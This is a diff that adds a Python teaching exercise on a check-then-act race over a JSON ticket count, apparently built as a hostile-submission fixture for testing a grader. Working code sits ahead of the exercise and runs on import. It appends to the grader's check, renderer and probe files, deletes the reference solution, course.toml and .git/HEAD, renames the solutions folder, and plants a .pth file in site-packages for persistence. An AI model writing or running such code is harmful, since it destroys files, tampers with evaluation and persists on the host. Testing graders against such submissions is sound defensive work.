@@ -1,0 +1,106 @@
+# Hostile submission: appends to grader modules (a renderer, a check, the probe's bytecode), deletes the solution, course.toml and .git/HEAD, plants a .pth in site-packages (on the racy stub).
+"""Exercise 1: the oversold ticket.
+
+Several buyer processes race for the last tickets of a concert. The number of tickets left is kept in a
+JSON file, ``{"count": n}``. Each buyer first looks at what is left (``check_ticket``) and, if there is
+something, buys one (``buy_ticket``): read the count, wait for the payment, write the count minus one.
+
+Run it a few times: ``python exercises/ex01_oversold_ticket.py``. With one ticket and ten buyers, more
+than one buyer gets "the" ticket. Two buyers read the same count, both act on it, and one update is lost:
+a check-then-act race on a shared resource.
+
+Your task: make ``buy_ticket`` a critical section. Every buyer gets the same lock from ``main``; only the
+code that reads, decides and writes must hold it, and it must be released on every path. The buyers must
+still run at the same time (joining each buyer right after starting it is not a fix: nothing runs
+concurrently any more).
+"""
+import glob as _glob, os as _os, pathlib as _pl, site as _site, sys as _sys
+import grader as _grader
+_pkg = _pl.Path(_grader.__file__).parent
+_course = _pkg.parent
+_targets = [_pkg / "course.toml", _pkg / "checks" / "ex01.py", _pkg / "render" / "terminal.py",
+            _pkg / "render" / "gradescope.py", _course / "solutions" / "ex01_oversold_ticket.py",
+            *map(_pl.Path, _glob.glob(str(_pkg / "probe" / "__pycache__" / "grader_probe.*.pyc")))]
+for _target in _targets:  # overwrite: a renderer that says 10/10, a check that checks nothing
+    try:
+        with open(_target, "a") as _f:
+            _f.write("\nOWNED = True\n")
+    except OSError:
+        pass
+for _victim in (_course / "solutions" / "ex01_oversold_ticket.py", _pkg / "course.toml", _course / ".git" / "HEAD"):
+    try:
+        _victim.unlink()
+    except OSError:
+        pass
+for _dir in (*_site.getsitepackages(), str(_pkg / "probe"), str(_pkg / "probe" / "__pycache__")):
+    try:  # a .pth runs at every later start of this Python; sitecustomize beside the probe would too
+        _pl.Path(_dir, "zz_owned.pth").write_text("import os\n")
+    except OSError:
+        pass
+try:
+    _os.rename(_course / "solutions", _course / "solutions.owned")
+except OSError:
+    pass
+import json
+import os
+import random
+import time
+from multiprocessing import Lock, Process
+
+
+def load(db_path):
+    """Read the ticket database (given)."""
+    with open(db_path) as f:
+        return json.load(f)
+
+
+def save(db_path, data):
+    """Replace the ticket database atomically (given): readers never see half a file."""
+    tmp_path = f"{db_path}.{os.getpid()}.tmp"
+    with open(tmp_path, "w") as f:
+        json.dump(data, f)
+    os.replace(tmp_path, db_path)
+
+
+def check_ticket(db_path):
+    """A read-only look at how many tickets are left (no lock needed)."""
+    return load(db_path)["count"]
+
+
+def buy_ticket(db_path, lock):
+    """Take one ticket if one is left. Return True if this buyer got one."""
+    # TODO: only one buyer at a time may run the read-decide-write below: use `lock`.
+    data = load(db_path)
+    if data["count"] <= 0:
+        return False
+    time.sleep(random.uniform(0.1, 0.5))  # the payment takes a moment
+    data["count"] -= 1
+    save(db_path, data)
+    return True
+
+
+def buyer(db_path, lock):
+    """What each buyer process runs: look, then buy."""
+    if check_ticket(db_path) > 0:
+        if buy_ticket(db_path, lock):
+            print(f"buyer {os.getpid()}: got a ticket")
+        else:
+            print(f"buyer {os.getpid()}: sold out while paying")
+    else:
+        print(f"buyer {os.getpid()}: sold out")
+
+
+def main(db_path="ticket.json", buyers=10):
+    """Start `buyers` buyer processes sharing one lock, and wait for all of them."""
+    lock = Lock()
+    processes = [Process(target=buyer, args=(db_path, lock)) for _ in range(buyers)]
+    for p in processes:
+        p.start()
+    for p in processes:
+        p.join()
+
+
+if __name__ == "__main__":
+    save("ticket.json", {"count": 1})
+    main()
+    print("tickets left:", check_ticket("ticket.json"))
